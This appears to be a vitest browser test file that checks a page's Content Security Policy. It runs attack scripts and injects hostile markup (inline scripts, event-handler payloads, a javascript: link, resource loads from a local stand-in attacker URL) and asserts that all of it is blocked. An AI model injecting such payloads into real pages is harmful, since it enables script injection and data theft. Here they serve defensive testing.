/** Script and markup that got into a page of ours, against the real browser and the real policy: nothing leaves. */
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { type AttackGround, openAttackGround } from './attack-ground.ts';
import { attacks } from './attacks.ts';

let ground: AttackGround;

beforeAll(async () => {
  ground = await openAttackGround();
});

afterAll(() => ground.close());

beforeEach(() => {
  ground.leaked.length = 0;
  ground.host.reached.length = 0;
});

const attackerUrl = (path: string): string => `http://127.0.0.1:${ground.attackerPort}${path}`;

/** Resolves with the directive awaited, once it has stopped the attack. In a task of the page's own: what a debugger runs is exempt from the policy. */
async function stopped(
  attack: (address: string) => unknown,
  { by, address }: { readonly by: string; readonly address: string },
): Promise<string> {
  return ground.page.evaluate(
    ([source, to, directive]) =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === directive) resolve(effectiveDirective);
        });
        const run = Reflect.construct(Function, [`return ${source}`])() as (address: string) => unknown;
        setTimeout(() => {
          const settle = (error: unknown): void => void String(error);
          new Promise((done) => done(run(to))).catch(settle);
        });
      }),
    [`(${attack.toString()})`, address, by] as const,
  );
}

it.each(attacks)('script that %s is stopped by %s', async (what, directive, attack) => {
  const address = attackerUrl(`/${encodeURIComponent(what)}`);
  expect(await stopped(attack, { by: directive, address })).toBe(directive);
  expect(await ground.page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(ground.leaked).toEqual([]);
  expect(ground.page.url()).toBe(`${ground.host.origin}/`);
});

it('markup that got into a page runs nothing and loads nothing', async () => {
  const page = await ground.context.newPage();
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      seen.push(effectiveDirective),
    );
  });
  const injected = `
    <script>window.pwned = 1</script>
    <script src="${attackerUrl('/script')}"></script>
    <script type="module">import '${attackerUrl('/module')}'</script>
    <img src="${attackerUrl('/image')}" onerror="window.pwned = 1">
    <body onload="window.pwned = 1"><svg onload="window.pwned = 1"></svg>
    <iframe src="${attackerUrl('/frame')}"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>
    <object data="${attackerUrl('/object')}"></object><embed src="${attackerUrl('/embed')}">
    <link rel="stylesheet" href="${attackerUrl('/style')}"><link rel="preconnect" href="${attackerUrl('/')}">
    <style>body { background: url(${attackerUrl('/background')}) }</style>
    <div style="background: url(${attackerUrl('/inline-style')})"></div>
    <video src="${attackerUrl('/video')}" poster="${attackerUrl('/poster')}"></video>
    <a id="script-link" href="javascript:window.pwned = 1">a</a>`;
  await page.route(`${ground.host.origin}/`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', `${injected}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto(`${ground.host.origin}/`);
  await page.evaluate(() => document.querySelector<HTMLAnchorElement>('#script-link')?.click());
  const seen = await page.evaluate(() => (window as unknown as { seen: readonly string[] }).seen);
  const expected = ['script-src-elem', 'script-src-attr', 'img-src', 'frame-src', 'object-src', 'media-src'];
  expect(seen).toEqual(expect.arrayContaining([...expected, 'style-src-elem', 'style-src-attr']));
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(ground.leaked).toEqual([]);
  await page.close();
});

it('leaves a page that still works', async () => {
  await ground.page.evaluate(() => {
    const { hoshodesk } = window as unknown as {
      hoshodesk: { service: { call(channel: string, request: object): { result: Promise<unknown> } } };
    };
    return hoshodesk.service.call('app.info', {}).result;
  });
  expect(ground.host.reached.map(({ channel }) => channel)).toContain('app.info');
});
